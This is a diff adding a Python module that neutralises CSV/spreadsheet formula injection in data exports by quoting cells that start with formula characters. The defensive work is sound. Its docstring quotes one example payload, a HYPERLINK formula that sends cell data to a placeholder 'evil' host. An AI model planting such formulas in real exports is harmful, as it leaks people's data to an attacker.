@@ -1,0 +1,57 @@
+"""Cells that are safe to open in a spreadsheet: the one rule for every CSV (and .xlsx) export.
+
+A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
+and Google Sheets (CSV injection: `=HYPERLINK("http://evil/?"&A1, "click")` sends a program officer's data
+away). Exports hold what people typed or texted — a message, a consent answer, a case property *name* —
+so every cell, the header row included, goes through `safe_cell`, which puts a `'` in front of such a
+value: the spreadsheet shows the text as it was written, and runs nothing.
+
+`csv_lines` (streamed pages) and `write_csv` (files, the CLI) apply it to the header and to every row, so
+an export that uses them cannot forget a cell; `tests/core/test_spreadsheet.py` checks that every module
+writing CSV in casemsg does.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable, Iterator
+from typing import Any, Protocol
+
+__all__ = ["FORMULA_START", "csv_lines", "safe_cell", "safe_row", "write_csv"]
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: object) -> str:
+    """The value as text a spreadsheet shows and never evaluates (None is the empty cell)."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def safe_row(values: Iterable[object]) -> list[str]:
+    return [safe_cell(v) for v in values]
+
+
+class _Echo:
+    """csv.writer writes into this and gets the line back, so rows stream instead of piling up."""
+
+    def write(self, value: str) -> str:
+        return value
+
+
+def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
+    """The CSV lines of a header and rows, every cell made safe; for a StreamingHttpResponse."""
+    writer = csv.writer(_Echo())
+    yield writer.writerow(safe_row(header))
+    for row in rows:
+        yield writer.writerow(safe_row(row))
+
+
+class _Writable(Protocol):
+    def write(self, s: str, /) -> Any: ...
+
+
+def write_csv(out: _Writable, header: Iterable[object], rows: Iterable[Iterable[object]]) -> None:
+    """Write a header and rows as CSV to a text file, every cell made safe."""
+    for line in csv_lines(header, rows):
+        out.write(line)
